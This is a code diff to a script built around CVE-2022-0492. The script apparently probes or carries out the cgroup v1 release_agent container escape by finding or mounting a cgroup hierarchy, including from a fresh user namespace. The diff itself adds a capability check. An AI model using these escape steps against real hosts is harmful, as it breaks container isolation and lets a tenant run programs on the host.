@@ -1,5 +1,6 @@
 # CVE-2022-0492: a cgroup v1 hierarchy mounted by the tenant runs a program on the host when its last process ends.
 CLONE_NEWUSER, CLONE_NEWCGROUP, CLONE_NEWNS = 0x10000000, 0x02000000, 0x00020000
+CAP_SYS_ADMIN = 21
 CONTROLLERS = [line.split()[0] for line in read("/proc/cgroups").splitlines() if not line.startswith("#")]
 
 
@@ -21,6 +22,9 @@ def mount_and_write():
 
 
 def in_a_user_namespace_of_its_own():
+    effective = next(line for line in read("/proc/self/status").splitlines() if line.startswith("CapEff:"))
+    if int(effective.split()[1], 16) >> CAP_SYS_ADMIN & 1:
+        raise Absent("there is nothing to win by one here")
     call(272, CLONE_NEWUSER | CLONE_NEWCGROUP | CLONE_NEWNS)
     return mount_and_write()
 
@@ -30,7 +34,7 @@ def where_it_is_mounted_already():
         path = f"/sys/fs/cgroup/{controller}/release_agent"
         if os.path.exists(path):
             return write_back(path)
-    raise Refused("none is mounted")
+    raise Absent("none is mounted")
 
 
 attempt(mount_and_write, where_it_is_mounted_already, in_a_user_namespace_of_its_own)
